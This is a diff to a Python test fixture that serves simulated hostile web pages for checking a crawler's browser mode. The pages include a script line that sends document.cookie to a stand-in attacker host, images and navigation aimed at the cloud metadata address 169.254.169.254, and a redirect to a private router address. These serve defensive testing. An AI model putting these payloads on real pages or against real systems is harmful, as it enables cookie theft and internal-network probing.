@@ -15,9 +15,9 @@ a crawl can be limited to one attack), all linked from the root column ``/zfxxgk
 - ``json-page``: JSON at an article URL (served as text/html) and a listing answering JSON;
 - ``good``: an ordinary article, and a redirect to it on the same host (must be archived).
 
-The browser unit (``browser: true``) has a listing whose images, scripts, frame, XHR and
-script navigation reach for foreign and internal hosts, and an image on its own host that
-redirects to an internal address.
+The browser unit (``browser: true``) has a listing whose images, scripts, frame, stylesheet and
+XHR reach for foreign and internal hosts, with an image on its own host that redirects to an
+internal address, and a listing whose script navigates the page to an internal address.
 """
 
 from __future__ import annotations
@@ -175,7 +175,8 @@ class HostileSites:
             return 404, b"not found"
         if path == ROOT:
             body = f"""
-<div class="p-rt rt"><ul><li><a href="{ROOT}202401/t20240101_901.html">2023年年报</a></li></ul></div>
+<div class="p-rt rt"><ul><li><a href="{ROOT}202401/t20240101_901.html">2023年年报</a></li>
+<li><a href="{ROOT}navigate/">跳转</a></li></ul></div>
 <img src="http://evil.example.com/pixel.png">
 <img src="http://169.254.169.254/latest/meta-data/">
 <img src="/zfxxgknb/bounce.png">
@@ -184,9 +185,11 @@ class HostileSites:
 <link rel="stylesheet" href="http://cdn.evil.example.com/style.css">
 <script>
 fetch("http://evil.example.com/api?leak=" + document.cookie).catch(() => {{}});
-setTimeout(() => {{ location.href = "http://169.254.169.254/navigate"; }}, 50);
 </script>"""
             return 200, _html("年报", body)
+        if path == f"{ROOT}navigate/":
+            script = 'setTimeout(() => { location.href = "http://169.254.169.254/navigate"; }, 50);'
+            return 200, _listing("年报", [f"{ROOT}202401/t20240101_902.html"], script)
         if path == "/zfxxgknb/bounce.png":
             return _redirect(302, "http://192.168.1.1/router.png")
         if path.startswith(f"{ROOT}202401/"):
@@ -210,4 +213,6 @@ def registry() -> list[dict[str, Any]]:
 
 def single_attack_registry(attack: str) -> list[dict[str, Any]]:
     """A registry whose only root is one attack's column (for measuring one attack alone)."""
-    return [{"code": "hostile", "name": "敌对区", "hosts": [HOST], "roots": [f"http://{HOST}{ROOT}{attack}/"]}]
+    return [
+        {"code": "hostile", "name": "敌对区", "hosts": [HOST], "roots": [f"http://{HOST}{ROOT}{attack}/"]}
+    ]
